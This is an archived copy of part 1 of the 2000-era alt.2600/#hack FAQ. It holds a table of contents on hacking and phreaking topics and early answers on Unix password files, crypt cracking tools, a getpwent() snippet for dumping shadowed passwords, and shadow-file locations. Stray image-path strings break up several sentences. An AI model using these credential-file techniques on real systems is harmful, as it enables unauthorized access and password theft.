Search the FAQ Archives

3 - A - B - C - D - E - F - G - H - I - J - K - L - M
N - O - P - Q - R - S - T - U - V - W - X - Y - Z - Internet FAQ Archives

alt.2600 FAQ Revision .014 (1/4)

( Part1 - Part2 - Part3 - Part4 )
[ Usenet FAQs | Web FAQs | Documents | RFC Index | Cities ]
Archive-Name: alt-2600/faq/part1Posting-Frequency: Random
Last-Modified: 2000/05/29
Version: .014

See reader questions & answers on this topic! - Help others by sharing your knowledge
[Note: I just post this stuff. I didn't writeit. Please DO NOT reply to
this post quoting its entirety! Downloading costs many people real
money. H.]
[Further: There are other regularly posted files which you might care to
read. Namely: "The alt.2600 Survival Guide" (for new posters), "How To
Hack - Info for Newbies" and Visigoth's "Newbies: Links to Hacking (and
other) Information .." (both of which contain information that may also
be valuable to more experienced people), "Read this for CRACKS, WARES &
XXX PASSWORDS" expands on the information regarding cracks and software
in VisiGoth's text. "Free News Servers" and VisiGoth's"HowTo: Makeshift
Linux Network @ Home .." also contain information that may be of
interest. I attempt to post all of these texts about twice per week.

IMPORTANT NOTE: The "Survival Guide" is a supplement tothis FAQ and
should be considered to be part of it. Violations of the etiquette
outlined therein are severely frowned upon by the alt.2600 regulars.

        Welcome to Version .014 of the alt.2600/#hack FAQ!

        The purpose of this FAQ is to give you a general introduction
        to the topics covered in alt.2600 and #hack.  No document will
        make you a hacker.

        If you have a question regarding any of the topics covered in
        the FAQ, please direct it to alt.2600.  Please do not e-mail
        your questions; I do not have time to respond to each request

        If your copy of the alt.2600/#hack FAQ does not end with the
        letters EOT on a line by themselves, you do not have the

        If you do not have the entire FAQ, retrieve it from one of
        these sites:

        Get it on FTP at:            /pub/usenet-by-group/alt.2600         /pub/rtfm/usenet-by-group/alt.2600/

        Get it on the World Wide Web at:



                        alt.2600/#Hack F.A.Q.

                          Revision .014

                   A TNO Communications Production


                          Greets go out to:

        TNO, L.O.D., The Guild, r00t, L0pht Heavy Industries, TACD,Cavalier, Disorder, Major, ThePublic, A-Flat, Aleph1, Alhambra,
        Bogus Technician, Frosty, Glen Roberts, Harlequin, Hobbit, Kgee,
        Lizzie Borden, Loq, Mad Poo Bandit, Marauder, Mudge, Mustard,
        Outsider, Pill, Plexor, Presence, Rage, Rogue Agent, Route,
        Simple Nomad, Theora, Tomes, Vidiot, Wozz and all of the other
        happy zanies out there on the 'net.

           When I picture a perfect reader, I always picture a
           monster of courage and curiosity, also something
           supple, cunning, cautious, a born adventurer and

                     -- Friedrich Nietzsche


Section A: Computers

U A-01. How do I access the password file under Unix?
U A-02. How do I crack Unix passwords?
  A-03. What is password shadowing?
U A-04. Where can I find the password file if it's shadowed?
  A-05. What is NIS/yp?
U A-06. What are those weird characters after the comma in my passwd file?
N A-07. How do I access the password file under Windows NT?
N A-08. How do I crack Windows NT passwords?
U A-09. How do I access the password file under VMS?
  A-10. How do I crack VMS passwords?
  A-11. What can be logged on a VMS system?
  A-12. What privileges are available on a VMS system?
U A-13. How do I break out of a restrictive shell?A-14. How do I gain root from a suid script or program?
  A-15. How do I erase my presence from the system logs?
  A-16. How do I change to directories with strange characters in them?
  A-17. What is this system?
U A-18. What are the default accounts for XXX ?
  A-19. What is a trojan/worm/virus/logic bomb?
  A-20. How can I protect myself from viruses and such?
  A-21. Where can I get moreinformation about viruses?
  A-22. What is Cryptoxxxxxxx?
  A-23. What is PGP?
  A-24. What is Tempest?
U A-25. How do I defeat copy protection?
N A-26. What are some available debuggers and disassemblers?
U A-27. How do I defeat a BIOS password?
  A-28. What is the password for <encrypted file>?
U A-29. Is there any hope of a decompiler that would convert an
                        executable program into C/C++ code?
  A-30. How does the MS-Windows password encryption work?

Section B: Data Networks

U B-01. How do I send fakemail?
  B-02. How do I fake posts and control messages to Usenet?
  B-03. How do I hack ChanOp on IRC?
  B-04. How do I modify the IRC client to hide my real username?U B-05. What is sniffing?
  B-06. What is an Internet Outdial?
U B-07. What are someInternet Outdials?
  B-08. What port is XXX on?
  B-09. What is an anonymous remailer?
U B-10. What are the addresses of some anonymous remailers?
  B-11. What is
  B-12. How do I post to a moderated newsgroup?
  B-13. How do I post to Usenet via e-mail?
N B-14. What is a firewall?
N B-15. How do I attack a remote network across the Internet?
N B-16. What is a TCP sequence prediction attack?

Section C: TelephonyU C-01. What is a Red Box?
U C-02. How do I build a Red Box?
  C-03. Where can I get a 6.5536Mhz crystal?
  C-04. Which payphones will a Red Box work on?
U C-05. How do I make local calls with a Red Box?
  C-06. What is a Blue Box?
  C-07. Do Blue Boxes still work?
  C-08. What is a Black Box?
  C-09. What do all the colored boxes do?
U C-10. What is an ANAC number?
U C-11. What is the ANAC number for my area?
U C-12. What is a ringback number?
U C-13. What is the ringback number for my area?
  C-14. What is a loop?
U C-15. What is a loop in my area?
U C-16. What is a CNA number?
U C-17. What is the telephone company CNA number for my area?
U C-18. What are some numbers that always ring busy?
U C-19. What are some numbers that temporarily disconnect phone service?
  C-20. What is a Proctor Test Set?
  C-21. What is a Proctor Test Set in my area?
U C-22. What is scanning?
  C-23. Is scanning illegal?
N C-24. How can I make a lineman's handset?
  C-25. Where can I purchase a lineman's handset?
U C-26. What are the DTMF frequencies?
U C-27. What are the frequencies of the telephone tones?N C-28. What is the voltage used to ring a telephone?
U C-29. What are all of the * (LASS) codes?
  C-30. What frequencies do cordless phones operate on?
  C-31. What is Caller-ID?
  C-32. How do I block Caller-ID?
N C-33. How do I defeat Caller-ID blocking?
U C-34. What is a PBX?
  C-35. What is a VMB?
  C-36. What are the ABCD tones for?
  C-37. What are the International Direct Numbers?
N C-38. What are some telephone switches?

Section D: Cellular Telephony

  D-01. What is a MTSO?
  D-02. What is a NAM?
  D-03. What is an ESN?
  D-04. What is a MIN?
  D-05. What is a SCN?
U D-06. What is a SIDH?
  D-07. What are the forward/reverse channels?

Section E: Resources

U E-01. What are some ftp sites of interest to hackers?
  E-02. What are some fsp sites of interest to hackers?
U E-03. What are some newsgroups of interest to hackers?
  E-04. What are some telnet sites of interest to hackers?
  E-05. What are some gopher sites of interest to hackers?
U E-06. What are some World wide Web (WWW) sites of interest to hackers?
  E-07. What are some IRC channels of interest to hackers?
  E-08. What are some BBS's of interest to hackers?
U E-09. What are some books of interest to hackers?
U E-10. What are some videos of interest to hackers?
U E-11. What are some mailing lists of interest to hackers?E-12. What are some print magazines of interest to hackers?
  E-13. What are some e-zines of interest to hackers?
  E-14. What are some organizations of interest to hackers?
  E-15. What are some radio programs of interest to hackers?
U E-16. What are other FAQ's of interest to hackers?
N E-17. What are some conferences of interest to hackers?
N E-18. What are some telephone numbers of interest to hackers?
U E-19. Where can I purchase a magnetic stripe reader/writer?
U E-20. What are the rainbow books and how can I get them?

Section F: 2600

  F-01. What is alt.2600?
[ F-01a. Where is the alt.2600 Web site? H.]
  F-02. What does "2600" mean?
  F-03. Are there on-line versions of 2600 available?
  F-04. I can't find 2600 at any bookstores.  What can I do?
U F-05. Why does 2600 cost more to subscribe to than to buy at a

Section G: Miscellaneous

  G-01. What does XXX stand for?
U G-02. How do I determine if I have a valid credit card number?
U G-03. What is the layout of data on magnetic stripe cards?
N G-04. What is pirate radio?
  G-05. What are the ethics of hacking?
N G-06. Why did you write this FAQ?
  G-07. Where can I get a copy of the alt.2600/#hack FAQ?

U == Updated since the last release of the alt.2600/#hack FAQ
N == New since the last release of the alt.2600/#hack FAQ

=-=-=-=-=-=-=-=-=-=-=-=  Section A-- Computers  =-=-=-=-=-=-=-=-=-=-=-=-=

A-01. How do I access the password file under Unix?

In standard Unix the password file is /etc/passwd.  On a Unix system
with either NIS/yp or password shadowing, much of the password data may
be elsewhere.  An entry in the password file consists of seven colon
delimited fields:

Encrypted password (And optional password aging data)
User number
Group Number
GECOS Information
Home directory

] Sample entry from /etc/passwd:
] voyager:5fg63fhD3d5gh:9406:12:The Voyager:/home/voyager:/bin/bash

Broken down, this passwd file line shows:

          Username: voyager
Encrypted password: 5fg63fhD3d5gh
       User number: 9406
      Group Number: 12GECOS Information: The Voyager
    Home directory: /home/voyager
             Shell: /bin/bash


A-02. How do I crack Unix passwords?

Contrary to popular belief, Unix passwords cannot be decrypted.  Unix
passwords are encrypted with a one way function.  The login program
accepts the text you enter at the "Password:" prompt and then runs it
through a cryptographic algorithm.  The results of that algorithm are
then compared against the encrypted form of your password stored in the
passwd file.

On a more technical level, the password that you enter is used as a keyto encrypt a 64-bit block of NULLs.  The first seven bits of each
character are extracted to form a 56-bit key.  This means that only
eight characters are significant in a standard Unix password.  The E-
table is then modified using the salt, which is a 12-bit value, coerced
into the first two chars of the stored passwd.  The salt's purpose is to
make precompiled passwordd lists and DES hardware chips more time
consuming to use.  DES is then invoked for 25 iterations. The 64-bit
output block and is then coerced into a 64-character alphabet (A-Z,a-
z,".","/").  This involves translations in which several different
values are represented by the same character, which is why Unix
passwords cannot be decrypted.

[Note from Dan Mellem: Under A-02, the FAQ lists the "64-character
alphabet" as "(A-Z,a-z,'.','/')"; the password also uses 0-9 (actual
order is "./0-9A-Za-z", I believe). H.]

Password cracking software uses wordlists.  Each word in the wordlist is
encrypted using the algorithm described above and the salts from the
password file.  The results are then compared to the encrypted form of
the target password.

The best cracking program for Unix passwords is currently Crackby Alec
Muffett.  For PC-DOS, the best package to use is currently CrackerJack.
For the Macintosh, try Killer Cracker or Mac Krack.


A-03. What is password shadowing?

Password shadowing is a security system where the encrypted password
field of /etc/passwd is replaced with a special token and the encrypted
password is stored in a separate file which is not readable by normal
system users.

On older systems, password shadowing was often defeated by using a
program that made successive calls to getpwent() to obtain the entire
password file.


#include <pwd.h>
struct passwd *p;
printf("%s:%s:%d:%d:%s:%s:%s\n", p->pw_name, p->pw_passwd,
p->pw_uid, p->pw_gid, p->pw_gecos, p->pw_dir, p->pw_shell);A-04. Where can I find the password file if it's shadowed?

Unix                     Path                            Token
AIX 3 and AIX 4          /etc/security/passwd            !
       or                /tcb/auth/files/<first letter   #
                               of username>/<username>
A/UX 3.0s                /tcb/files/auth/?/*
BSD4.3-Reno              /etc/master.passwd              *
ConvexOS 10              /etc/shadpw                     *
